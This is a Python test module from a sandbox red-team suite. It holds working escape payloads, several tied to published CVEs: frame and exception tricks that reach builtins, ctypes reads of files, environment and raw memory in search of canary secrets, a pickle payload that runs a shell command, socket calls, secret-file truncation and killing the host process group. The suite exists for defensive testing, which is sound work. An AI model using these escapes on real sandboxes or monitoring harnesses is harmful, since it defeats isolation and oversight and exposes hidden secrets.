"""Attacks beyond the given ones: Python and its objects, state that survives, words that lie, resources."""

from __future__ import annotations

from tests.redteam.attack import Attack, Control, Sign, attacks
from tests.redteam.own_calls import CALLS
from tests.redteam.own_objects import OBJECTS
from tests.redteam.own_protocol import PROTOCOL
from tests.redteam.own_sources import NESTED
from tests.redteam.own_texts import TEXTS

# Several are published ways out of other sandboxes: the object of an AttributeError (n8n, CVE-2026-0863), exception
# groups (RestrictedPython, CVE-2025-22153), frames of generators (simpleeval, RestrictedPython CVE-2023-37271),
# attribute lookups by match patterns and format strings (RestrictedPython CVE-2023-41039).
_SECRETS = r"""
## attribute_error_obj: leak
try:
    "{0.attack.__func__.__globals__[__builtins__].nothing}".format(self)
except AttributeError as error:
    raise RuntimeError("LEAK " + error.obj["open"]("@SECRET@").read())

## except_star_frame: leak
try:
    raise ExceptionGroup("g", [ZeroDivisionError()])
except* ZeroDivisionError as group:
    builtins = group.__traceback__.tb_frame.f_builtins
raise RuntimeError("LEAK " + builtins["open"]("@SECRET@").read())

## coroutine_frame: leak
async def idle():
    pass
waiting = idle()
builtins = waiting.cr_frame.f_builtins
waiting.close()
raise RuntimeError("LEAK " + builtins["open"]("@SECRET@").read())

## async_generator_frame: leak
async def idle():
    yield 1
raise RuntimeError("LEAK " + idle().ag_frame.f_builtins["open"]("@SECRET@").read())

## match_attributes: leak
match lambda: 0:
    case object(__globals__=names):
        raise RuntimeError("LEAK " + names["__builtins__"]["open"]("@SECRET@").read())

## stop_iteration_frame: leak
def inner():
    return (yield)
running = inner()
next(running)
try:
    running.throw(KeyError("x"))
except KeyError as error:
    frame = error.__traceback__.tb_next.tb_frame
raise RuntimeError("LEAK " + frame.f_builtins["open"]("@SECRET@").read())

## metaclass_subclasses: leak
found = [c for c in type.__subclasses__(object) if c.__name__ == "_io.FileIO" or c.__name__ == "_IOBase"]
file_io = [c for base in found for c in base.__subclasses__()]
raw = [c for base in file_io for c in base.__subclasses__() if c.__name__ == "FileIO"]
raise RuntimeError("LEAK " + raw[0]("@SECRET@").read().decode())

## class_cell_globals: leak
raise RuntimeError("LEAK " + type(self).attack.__builtins__["open"]("@SECRET@").read())

## system_modules_io: leak
import sys
raise RuntimeError("LEAK " + sys.modules["_io"].open("@SECRET@").read())

## codecs_open: leak
import codecs
raise RuntimeError("LEAK " + codecs.open("@SECRET@").read())

## np_datasource: leak
import numpy as np
raise RuntimeError("LEAK " + np.lib.npyio.DataSource().open("@SECRET@").read())

## libc_read: leak
import ctypes
libc = ctypes.CDLL(None)
libc.fopen.restype = ctypes.c_void_p
stream = libc.fopen(b"@SECRET@", b"r")
text = ctypes.create_string_buffer(200)
libc.fgets(text, 200, ctypes.c_void_p(stream)) if stream else None
raise RuntimeError("LEAK " + text.value.decode())

## libc_environ: leak
import ctypes
names = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
found = []
while names and names[len(found)]:
    found.append(names[len(found)].decode())
raise RuntimeError("LEAK " + ";".join(found))

## scan_memory: leak
# above:
import ctypes
import gc
import re
import sys
NEEDLE = re.compile(rb"(?:HIDDENGOAL-55aa|sk-canary-91b2|SECRETFILE-7f3a|MiniGrid-Hidden|SEED)-[0-9a-f]{16}")
def scan():
    # The kernel tells which pages there are: EFAULT for one that is not, EINVAL for the senseless request otherwise.
    libc = ctypes.CDLL(None, use_errno=True)
    def there(page):
        libc.syscall(ctypes.c_long(14), ctypes.c_long(99), ctypes.c_void_p(page), None, ctypes.c_long(8))
        return ctypes.get_errno() == 22
    known = [*gc.get_objects(), *sys.modules.values(), *vars(sys).values(), "", object(), {}, [0] * 999, bytes(1 << 20)]
    seen, found = set(), set()
    for start in sorted({id(thing) >> 20 << 20 for thing in known}):
        for step in (4096, -4096):
            page = start if step > 0 else start - 4096
            first = page
            while page not in seen and len(seen) < 100000 and there(page):
                seen.add(page)
                page += step
            low, high = sorted((first, page)) if step > 0 else (page + 4096, first + 4096)
            block = ctypes.string_at(low, high - low)
            if any(part in block for part in (b"-55aa-", b"-91b2-", b"-7f3a-", b"-Hidden-", b"SEED-")):
                found.update(NEEDLE.findall(block))
    return len(seen), found
# body:
pages, found = scan()
raise RuntimeError("LEAK %s in %d pages" % (found or "nothing", pages))

## unpickle: proc
import pickle
pickle.loads(b"cos\nsystem\n(S'touch @PW@unpickle'\ntR.")

## libc_connect: net
import ctypes
libc = ctypes.CDLL(None)
address = (2).to_bytes(2, "little") + (@PORT@).to_bytes(2, "big") + bytes((127, 0, 0, 1)) + bytes(8)
libc.connect(libc.socket(2, 1, 0), address, 16)

## libc_sendto: net2
import ctypes
libc = ctypes.CDLL(None)
address = (2).to_bytes(2, "little") + (@UPORT@).to_bytes(2, "big") + bytes((127, 0, 0, 1)) + bytes(8)
libc.sendto(libc.socket(2, 2, 0), b"pwn", 3, 0, address, 16)

## truncate_secret: write
import os
os.truncate("@SECRET@", 0)

## libc_kill_host: kill
import ctypes
ctypes.CDLL(None).kill(@HPID@, 9)

## kill_everybody_in_group: kill
import os
os.killpg(os.getpgid(@HPID@), 9)
"""

_SECRETS_CONTROLS = {
    "truncate_secret": Control((Sign.WROTE,)),
}

_STATE = r"""
## marker_in_modules: state
# earlier:
import builtins, random, sys
import numpy as np
for place in (builtins, random, np, sys, np.random):
    place.planted = 1
sys.modules["planted"] = sys
# body:
import builtins, random, sys
import numpy as np
found = [place.__name__ for place in (builtins, random, np, sys, np.random) if hasattr(place, "planted")]
if found or "planted" in sys.modules:
    raise RuntimeError("LEAK STATE " + " ".join(found + ["modules"]))

## marker_in_random: state
# earlier:
import random
random.seed(4711)
# body:
import random
if random.random() == random.Random(4711).random():
    raise RuntimeError("LEAK STATE random")

## marker_in_runner: state
# earlier:
import sys
sys.modules["spca.sandbox.process.runner"].MAX_FRAMES = 77
# body:
import sys
if sys.modules["spca.sandbox.process.runner"].MAX_FRAMES == 77:
    raise RuntimeError("LEAK STATE runner")

## earlier_objects: state
# earlier:
import gc
self.kept = ["HIDDENGOAL-55aa-" + "@TAIL@"[::-1]]
self.kept.append(self.kept)
import sys
sys.modules["spca.sandbox.process.runner"].kept = self
# body:
import gc
texts = [str(o[0]) for o in gc.get_objects() if type(o) is list and len(o) == 2 and type(o[0]) is str]
raise RuntimeError("LEAK " + " ".join(t for t in texts if t.startswith("HIDDENGOAL-")))
"""

OWN: tuple[Attack, ...] = (
    *attacks(_SECRETS, _SECRETS_CONTROLS),
    *attacks(_STATE),
    *OBJECTS,
    *TEXTS,
    *PROTOCOL,
    *CALLS,
    *NESTED,
)
